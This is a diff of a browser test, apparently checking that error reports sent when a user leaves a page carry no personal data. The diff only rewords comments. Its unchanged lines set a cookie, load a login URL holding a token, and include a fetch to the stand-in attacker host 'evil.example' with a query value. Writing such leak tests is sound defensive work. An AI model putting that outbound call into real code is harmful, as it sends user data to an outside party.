@@ -13,12 +13,12 @@ test('a page that is left right after errors reports them by name, with nothing 
 }) => {
   const tab = new Tab(connection, origin);
   await tab.goto('/login?token=zebediah-token#zebediah@example.com');
-  // Waits for the second request: the app fetches the script before it imports it.
+  // Wait for two requests of the script: the app first fetches the script, and then imports it.
   await tab.until('the visit is measured', () => {
     const loads = performance.getEntriesByType('resource').filter(({ name }) => name.includes('/sendReports-'));
     return loads.length === 2;
   });
-  // Cookies ignore the port, so the browser could also send this one with the report.
+  // Cookies ignore the port, so the browser could send this cookie with the report.
   await tab.run(() => window.cookieStore.set('person', 'zebediah'));
 
   await tab.fill('Email', `zebediah-${uniqueEmail()}`);
@@ -32,7 +32,7 @@ test('a page that is left right after errors reports them by name, with nothing 
         window.fetch('https://evil.example/?zebediah').catch(() => undefined);
       }),
   );
-  // Use the promises and errors of `window`, because Firefox runs this in a sandbox that has its own.
+  // Use the promises and errors of `window`: the sandbox in which Firefox runs this function has its own.
   await tab.run(() => {
     const recurse = (): number => 1 + recurse();
     try {
